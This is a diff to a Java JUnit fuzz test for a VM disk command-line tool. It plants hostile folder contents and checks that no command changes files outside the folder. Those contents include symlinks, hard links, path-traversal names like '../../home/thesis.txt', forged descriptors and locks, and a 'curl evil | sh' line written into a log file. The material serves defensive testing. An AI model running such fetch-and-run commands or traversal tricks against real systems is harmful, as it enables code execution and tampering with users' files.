@@ -2,25 +2,36 @@ package io.vmdisk.cli;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import io.vmdisk.cli.line.GlobalOptions;
+import io.vmdisk.cli.line.Console;
+import io.vmdisk.cli.start.CommandTree;
 import io.vmdisk.testkit.FolderPrint;
 import io.vmdisk.testkit.ForgedJournal;
+import io.vmdisk.testkit.OwnStaging;
+import io.vmdisk.testkit.Patterns;
 import java.io.IOException;
 import java.nio.file.Files;
+import java.nio.file.LinkOption;
 import java.nio.file.Path;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
 import java.util.Random;
+import java.util.Set;
+import java.util.TreeSet;
+import java.util.stream.Collectors;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.condition.DisabledOnOs;
 import org.junit.jupiter.api.condition.OS;
 import org.junit.jupiter.api.io.TempDir;
+import picocli.CommandLine;
 
 /** Folders that came from somebody else: whatever is in them, nothing outside changes. */
 @DisabledOnOs(OS.WINDOWS)
 class ForeignFolderTest {
-    private static final String VMX = """
+    private static final String VMX =
+            """
         .encoding = "UTF-8"
         config.version = "8"
         virtualHW.version = "14"
@@ -47,6 +58,7 @@ class ForeignFolderTest {
         run(0, "create", home.resolve("disk.vmdk"), "1M", "-O", "monolithicSparse", "-q");
         run(0, "create", home.resolve("flat.vmdk"), "1M", "-O", "monolithicFlat", "-q");
         run(0, "create", vm.resolve("a.vmdk"), "1M", "-O", "monolithicSparse", "-q");
+        run(0, "create", vm.resolve("other.vmdk"), "1M", "-O", "monolithicSparse", "-q");
         Files.writeString(vm.resolve("a.vmx"), VMX);
         run(0, "snapshot", "create", vm, "one", "-q");
         Files.writeString(vm.resolve("vmware.log"), "curl evil | sh");
@@ -235,7 +247,9 @@ class ForeignFolderTest {
 
         private void descriptor() throws IOException {
             Files.deleteIfExists(vm.resolve("a-000001.vmdk"));
-            Files.writeString(vm.resolve("a-000001.vmdk"), """
+            Files.writeString(
+                    vm.resolve("a-000001.vmdk"),
+                    """
                 # Disk DescriptorFile
                 version=1
                 CID=fffffffe
@@ -244,13 +258,62 @@ class ForeignFolderTest {
                 parentFileNameHint="%s"
                 RW 2048 %s "%s"%s
                 ddb.adapterType = "lsilogic"
-                """.formatted(
-                            pick(List.of("ffffffff", "fffffffe")),
-                            pick(List.of("monolithicFlat", "twoGbMaxExtentSparse", "vmfs")),
-                            path(),
-                            pick(List.of("FLAT", "SPARSE", "VMFS")),
-                            path(),
-                            pick(List.of("", " 0"))));
+                """
+                            .formatted(
+                                    pick(List.of("ffffffff", "fffffffe")),
+                                    pick(List.of("monolithicFlat", "twoGbMaxExtentSparse", "vmfs")),
+                                    path(),
+                                    pick(List.of("FLAT", "SPARSE", "VMFS")),
+                                    path(),
+                                    pick(List.of("", " 0"))));
+        }
+
+        /** A folder in which a disk is made, ours by its token, whose files have the names of others or lead to them. */
+        private void staging() throws IOException {
+            String target = pick(List.of("new.vmdk", "a.vmdk", "other.vmdk", ".vmdisk-journal", "a.vmx"));
+            Path folder = vm.resolve(target + ".vmdisk-new");
+            if (Files.exists(folder, LinkOption.NOFOLLOW_LINKS)) {
+                return;
+            }
+            String name =
+                    pick(List.of("new.vmdk", "other.vmdk", "a.vmdk", "../a.vmdk", "../../home/thesis.txt", "way"));
+            OwnStaging.make(folder, target, name, path().replace("\"", ""));
+            if (random.nextBoolean()) {
+                Files.createFile(folder.resolve(".vmdisk-complete"));
+            }
+            if (random.nextBoolean()) {
+                Files.createSymbolicLink(folder.resolve("way"), home);
+            }
+            Path inside = folder.resolve(target);
+            switch (random.nextInt(4)) {
+                case 0 -> Files.createSymbolicLink(inside, home.resolve("thesis.txt"));
+                case 1 -> Files.createLink(inside, home.resolve("flat-flat.vmdk"));
+                case 2 -> Files.writeString(inside, "evil");
+                default -> Files.createSymbolicLink(folder.resolve(".vmdisk-lock"), home.resolve("new.txt"));
+            }
+        }
+
+        /** Locks of ours and of VMware's, whole, empty, torn, and as names of somebody's files. */
+        private void lock() throws IOException {
+            Path at = vm.resolve(pick(List.of(
+                    ".vmdisk-lock", "a.vmdk.vmdisk-lock", "a-000001.vmdk.vmdisk-lock", "a.vmx.lck", "a.vmdk.lck")));
+            if (Files.exists(at, LinkOption.NOFOLLOW_LINKS)) {
+                return;
+            }
+            switch (random.nextInt(4)) {
+                case 0 -> Files.createFile(at);
+                case 1 -> Files.createLink(at, home.resolve("thesis.txt"));
+                case 2 -> Files.write(at, Patterns.random(random.nextInt(), random.nextInt(600)));
+                default -> {
+                    Files.createDirectory(at);
+                    String member = pick(List.of("M00001.lck", "E00001.lck", "D00001$.lck", "M1.lck"));
+                    if (random.nextBoolean()) {
+                        Files.createSymbolicLink(at.resolve(member), home.resolve("thesis.txt"));
+                    } else {
+                        Files.createLink(at.resolve(member), home.resolve("thesis.txt"));
+                    }
+                }
+            }
         }
 
         void plant() throws IOException {
@@ -259,7 +322,7 @@ class ForeignFolderTest {
             Files.createLink(vm.resolve("twin.vmdk"), home.resolve("disk.vmdk"));
             int attacks = 1 + random.nextInt(3);
             for (int i = 0; i < attacks; i++) {
-                switch (random.nextInt(8)) {
+                switch (random.nextInt(12)) {
                     case 0, 1, 2 -> journal();
                     case 3 ->
                         link(pick(List.of(
@@ -274,17 +337,27 @@ class ForeignFolderTest {
                                 ".vmdisk-lock", "a.vmdk.vmdisk-lock", "a-000001.vmdk.vmdisk-lock", "a.vmx.lck")));
                     case 5 -> rewrite(pick(List.of("a.vmx", "a.vmsd")));
                     case 6 -> descriptor();
+                    case 7, 8 -> staging();
+                    case 9, 10 -> lock();
                     default -> link(pick(List.of("a.vmdk.vmdisk-text", "a-000001.vmdk.vmdisk-text-draft")));
                 }
             }
         }
 
         List<Object> command() {
+            List<List<Object>> all = commands();
+            return all.get(random.nextInt(all.size()));
+        }
+
+        List<List<Object>> commands() {
             Path disk = vm.resolve(pick(List.of("a.vmdk", "a-000001.vmdk")));
             Path fresh = vm.resolve("new.vmdk");
-            List<List<Object>> all = List.of(
+            Path other = vm.resolve("other.vmdk");
+            return List.of(
                     List.of("recover", vm),
                     List.of("recover", vm),
+                    List.of("recover", vm),
+                    List.of("recover", disk),
                     List.of("recover", "--force=copy", vm),
                     List.of("recover", "--force=mark", vm),
                     List.of("recover", "--drop", vm),
@@ -318,8 +391,31 @@ class ForeignFolderTest {
                     List.of("clone", vm, vm.resolve("clone")),
                     List.of("clone", disk, fresh),
                     List.of("files", vm),
-                    List.of("info", vm));
-            return all.get(random.nextInt(all.size()));
+                    List.of("info", vm),
+                    List.of("info", disk),
+                    List.of("compare", disk, vm.resolve("a.vmdk")),
+                    List.of("compare", disk, vm.resolve(pick(List.of("link.vmdk", "twin.vmdk", "way/flat.vmdk")))),
+                    List.of("map", disk),
+                    List.of("map", vm),
+                    List.of("read", disk, "--offset", "0", "--length", "512"),
+                    List.of("hardware", vm),
+                    List.of("vmx", "get", vm, "guestOS"),
+                    List.of("vmx", "list", vm),
+                    List.of("vmx", "lint", vm),
+                    List.of("snapshot", "list", vm),
+                    List.of("convert", "-n", disk, other),
+                    List.of("convert", "-n", other, disk),
+                    List.of("repair", "--salvage", fresh, disk),
+                    List.of("repair", "--descriptor", disk),
+                    List.of("repair", "--descriptor", vm),
+                    List.of("repair", "--tables", vm),
+                    List.of("repair", "--parent", path(), disk),
+                    List.of("unmap", disk, "--guest"),
+                    List.of("unmap", disk, "--compact"),
+                    List.of("resize", vm.resolve("a.vmdk"), "512K", "--shrink"),
+                    List.of("consolidate", disk, "--into", fresh),
+                    List.of("rebase", disk, "--onto", vm.resolve("other.vmdk")),
+                    List.of("clone", vm, vm.resolve("clone"), "--linked"));
         }
     }
 
@@ -335,15 +431,47 @@ class ForeignFolderTest {
             fuzzer.plant();
             List<Object> command = fuzzer.command();
             CommandLineRun run = CommandLineRun.withInput(new byte[512], command.toArray());
-            Map<String, String> after = FolderPrint.of(home);
-            assertThat(after)
+            assertThat(FolderPrint.of(home))
                     .as("seed " + seed + ": " + command + ": " + run.err())
                     .isEqualTo(before);
+            assertThat(beside()).as("seed " + seed + ": " + command).isEqualTo("home kept vm");
             assertThat(run.err()).as("seed " + seed + ": " + command).doesNotContain("internal", "Exception");
         }
     }
 
-    private static final int RUNS = 600;
+    /** What prints only itself is left out, and what waits for callers. */
+    @Test
+    void everyCommandIsAmongThem() {
+        Set<String> tried = new TreeSet<>();
+        for (List<Object> command : new Fuzzer(0).commands()) {
+            tried.add(String.valueOf(command.get(0)));
+            tried.add(command.get(0) + " " + command.get(1));
+        }
+        assertThat(tried).containsAll(leaves("", CommandTree.all(new GlobalOptions(Console.silent()))));
+    }
+
+    private static List<String> leaves(String lead, CommandLine command) {
+        List<String> leaves = new ArrayList<>();
+        command.getSubcommands().forEach((name, below) -> {
+            if (below.getSubcommands().isEmpty()) {
+                leaves.add(lead + name);
+            } else {
+                leaves.addAll(leaves(lead + name + " ", below));
+            }
+        });
+        leaves.removeAll(List.of("completion", "help", "version", "serve"));
+        return leaves;
+    }
+
+    private static final int RUNS = 1000;
+
+    private String beside() throws IOException {
+        try (var files = Files.list(temporary)) {
+            return files.map(file -> String.valueOf(file.getFileName()))
+                    .sorted()
+                    .collect(Collectors.joining(" "));
+        }
+    }
 
     private static void copyFiles(Path from, Path to) throws IOException {
         Files.createDirectories(to);
@@ -358,7 +486,7 @@ class ForeignFolderTest {
     private static void clear(Path folder) throws IOException {
         try (var files = Files.list(folder)) {
             for (Path file : files.toList()) {
-                if (Files.isDirectory(file, java.nio.file.LinkOption.NOFOLLOW_LINKS)) {
+                if (Files.isDirectory(file, LinkOption.NOFOLLOW_LINKS)) {
                     clear(file);
                 }
                 Files.delete(file);
